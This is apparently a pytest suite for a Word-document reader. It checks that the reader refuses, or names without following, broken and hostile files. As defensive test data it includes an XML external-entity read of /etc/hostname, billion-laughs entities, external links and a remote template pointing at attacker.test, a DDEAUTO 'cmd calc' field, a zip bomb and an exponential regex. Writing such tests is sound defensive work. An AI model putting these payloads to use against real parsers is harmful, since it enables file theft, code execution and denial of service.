"""Broken, hostile and foreign files: each ends as a verdict in words, and the next one is read as ever."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from connectors.word import reader as reading
from connectors.word.faults import Fault
from connectors.word.package import Bounds, Package, form_of
from connectors.word.reader import Limits, Reader
from tests.connectors.word.tools import (
    SAMPLES,
    archive,
    document_xml,
    needs_samples,
    paragraph,
    profile,
    repacked,
    save,
)
from tests.tally import tally

MIB = 1024 * 1024
NUMBER = {"number": {"type": "text", "required": True, "from": [{"label": "N°"}]}}


@pytest.fixture(scope="module")
def reader() -> Iterator[Reader]:
    with Reader(Limits(seconds=60)) as made:
        yield made


def refused(reader: Reader, path: Path) -> Fault:
    with pytest.raises(Fault) as caught:
        reader.read(path, {})
    tally("bad inputs tried")
    assert path.name in caught.value.what
    assert caught.value.todo
    return caught.value


LOCKED = b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01" + b"\0" * 500
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "is empty"),
        (b"PK\x03\x04 cut short", "cut short or damaged"),
        (b"<html><body>Erreur</body></html>", "a web page"),
        (b"<?xml version='1.0'?><a/>", "an XML file"),
        (b"\x00\x01\x02\x03" * 100, "not a Word document"),
        (b"\x11Ginutech" + b"\0" * 150, "a mark Word leaves"),
        (OLE + utf16("EncryptedPackage"), "a password"),
        (OLE + LOCKED + utf16("WordDocument"), "a password"),
        (OLE + utf16("VisioDocument"), "no Word document"),
    ],
    ids=["empty", "cut", "html", "xml", "noise", "owner file", "encrypted docx", "encrypted doc", "visio"],
)  # fmt: skip
def test_what_is_no_document_is_named_for_what_it_is(
    tmp_path: Path, reader: Reader, content: bytes, said: str
) -> None:
    path = tmp_path / "contrat.docx"
    path.write_bytes(content)
    assert said in str(refused(reader, path))


def test_a_workbook_or_a_pdf_is_told_from_a_document_by_its_content(tmp_path: Path, reader: Reader) -> None:
    book = archive(tmp_path / "a.docx", {"_rels/.rels": "<a/>", "xl/workbook.xml": "<a/>"})
    pdf = tmp_path / "b.docx"
    pdf.write_bytes(b"%PDF-1.7\n")
    assert [reader.read(path, {}).form for path in (book, pdf)] == ["workbook", "pdf"]
    assert reader.read(book, {}).verdict == "unsupported"
    assert form_of(b"{\\rtf1 }", "c.doc") == "rtf"
    tally("bad inputs tried", 3)


def test_a_decompression_bomb_is_refused_before_anything_is_unpacked(tmp_path: Path, reader: Reader) -> None:
    path = tmp_path / "bombe.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("_rels/.rels", "<a/>")
        with made.open("word/document.xml", "w") as part:
            for _ in range(64):
                part.write(b" " * MIB)
    assert "bomb" in refused(reader, path).what


def test_an_archive_of_too_many_parts_is_refused(tmp_path: Path, reader: Reader) -> None:
    path = archive(tmp_path / "parts.docx", {"_rels/.rels": "<a/>", **{f"p{n}": "" for n in range(4001)}})
    assert "plain document" in refused(reader, path).what


def test_two_parts_of_one_name_are_refused(tmp_path: Path, reader: Reader) -> None:
    path = tmp_path / "deux.docx"
    with zipfile.ZipFile(path, "w") as made:
        for name in ("_rels/.rels", "word/document.xml", "Word/Document.xml"):
            made.writestr(name, "<a/>")
    assert "two parts of one name" in refused(reader, path).what


def test_a_text_bigger_than_any_contract_is_refused(tmp_path: Path) -> None:
    path = save(tmp_path / "gros.docx", *[paragraph("mot " * 50)] * 200)
    with pytest.raises(Fault, match="far too big"):
        Package(path.read_bytes(), path.name, Bounds(part_bytes=10_000)).xml("word/document.xml")
    with pytest.raises(Fault, match="too big"):
        Package(path.read_bytes(), path.name, Bounds(file_bytes=1000))
    tally("bad inputs tried", 2)


LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha">' + "".join(
    f'<!ENTITY b{n} "{"&b" + (str(n - 1) if n > 1 else "") + ";"}'.rstrip() + '">' for n in range(1, 10)
) + "]>"  # fmt: skip
THEFT = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize("declared", [LAUGHS, THEFT], ids=["billion laughs", "external entity"])
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels"])
def test_a_document_type_is_refused_wherever_it_stands(
    tmp_path: Path, reader: Reader, declared: str, part: str
) -> None:
    path = save(tmp_path / "contrat.docx", paragraph("x"))
    repacked(path, {part: f'<?xml version="1.0"?>{declared}<a>&x;</a>'.encode()})
    assert "document type" in refused(reader, path).what


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_xml_that_is_broken_is_told_with_its_part(tmp_path: Path, reader: Reader, part: str) -> None:
    path = repacked(save(tmp_path / "contrat.docx", paragraph("x")), {part: b"<w:vanish>"})
    assert part in refused(reader, path).what


def test_a_document_without_its_main_part_is_told(tmp_path: Path, reader: Reader) -> None:
    path = repacked(save(tmp_path / "contrat.docx", paragraph("x")), {"word/document.xml": None})
    assert "lacks its part word/document.xml" in refused(reader, path).what


def test_macros_links_and_embedded_files_are_named_and_not_followed(tmp_path: Path, reader: Reader) -> None:
    path = save(tmp_path / "contrat.docx", paragraph("N° : 1"))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    opening = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    outside = 'TargetMode="External"/>'
    rels = (
        f'{opening}<Relationship Id="r1" Type="{kind}/oleObject" Target="http://attacker.test/x" {outside}'
        f'<Relationship Id="r2" Type="{kind}/settings" Target="settings.xml"/></Relationships>'
    )
    template = (
        f'{opening}<Relationship Id="r1" Type="{kind}/attachedTemplate" '
        f'Target="http://attacker.test/t.dotm" {outside}</Relationships>'
    )
    fetching = '<w:p><w:fldSimple w:instr="DDEAUTO cmd calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    repacked(
        path,
        {
            "word/vbaProject.bin": b"x",
            "word/embeddings/a.xlsx": b"x",
            "word/_rels/document.xml.rels": rels.encode(),
            "word/_rels/settings.xml.rels": template.encode(),
            "word/document.xml": document_xml(paragraph("N° : 1") + fetching),
        },
    )
    found = reader.read(path, {"essai": profile(NUMBER, match={"any_text": ["N°"]})})
    assert found.contracts[0]["values"][0]["value"] == "1"
    assert found.notes == [
        "it holds macros: they are not run",
        "it holds 1 embedded file: not read",
        "it links to http://attacker.test/x (oleObject): not followed",
        "it takes its template from http://attacker.test/t.dotm: not followed",
        "it holds a field DDEAUTO, which fetches from elsewhere: not followed",
    ]
    tally("bad inputs tried", 5)


def test_a_regular_expression_without_end_costs_its_time_and_no_more(tmp_path: Path) -> None:
    slow = {"number": {"type": "text", "from": [{"regex": "(a+)+$"}]}}
    path = save(tmp_path / "lent.docx", paragraph("contrat " + "a" * 40 + "!"))
    sound = save(tmp_path / "bon.docx", paragraph("contrat"), paragraph("N° : 1"))
    with Reader(Limits(seconds=3)) as reader:
        assert reader.read(sound, {"essai": profile(NUMBER)}).verdict == "read"
        with pytest.raises(Fault, match="within 3 s"):
            reader.read(path, {"lent": profile(slow)})
        assert reader.read(sound, {"essai": profile(NUMBER)}).verdict == "read"
    tally("faults injected")


@pytest.mark.skipif(os.name == "nt", reason="Windows has no limit of memory for a process of ours")
def test_a_reader_without_memory_says_so_and_lives(tmp_path: Path) -> None:
    path = save(tmp_path / "gros.docx", "<w:p/>" * 900_000)
    with Reader(Limits(memory=220 * MIB)) as reader:
        with pytest.raises(Fault, match=r"memory|cannot be read"):
            reader.read(path, {})
        sound = save(tmp_path / "bon.docx", paragraph("contrat"), paragraph("N° : 1"))
        assert reader.read(sound, {"essai": profile(NUMBER)}).verdict == "read"
    tally("faults injected")


def test_a_reader_is_started_anew_after_many_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "RECYCLED", 2)
    path = save(tmp_path / "bon.docx", paragraph("contrat"), paragraph("N° : 1"))
    with Reader() as reader:
        assert [reader.read(path, {"essai": profile(NUMBER)}).verdict for _ in range(5)] == ["read"] * 5


def test_a_file_that_is_gone_is_said_to_be(tmp_path: Path, reader: Reader) -> None:
    assert "cannot be opened" in refused(reader, tmp_path / "nulle part.docx").what


DOCUMENTS = sorted((SAMPLES / "poi").glob("*.doc*")) if SAMPLES.is_dir() else []
UNREADABLE = {"ExternalEntityInText.docx": "document type", "PasswordProtected.doc": "password"}


@needs_samples
@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.name)
def test_a_strangers_document_ends_as_a_verdict(reader: Reader, path: Path) -> None:
    converted = path.suffix == ".doc" and path.name not in UNREADABLE
    if path.name in UNREADABLE or (converted and reader._office.found() is None):
        assert UNREADABLE.get(path.name, "LibreOffice") in str(refused(reader, path))
    else:
        assert reader.read(path, {}, offers=True).verdict == "no profile"


@needs_samples
def test_no_sample_of_any_kind_ends_the_reader(reader: Reader) -> None:
    others = [p for p in sorted(SAMPLES.rglob("*")) if p.is_file() and p not in DOCUMENTS]
    assert {verdict(reader, path) for path in others} == {"unsupported", "refused"}
    tally("bad inputs tried", len(others))


def verdict(reader: Reader, path: Path) -> str:
    """What a file comes to; a refusal without a word of what to do is none."""
    try:
        return reader.read(path, {}).verdict
    except Fault as fault:
        return "refused" if fault.what and fault.todo else "without a word"
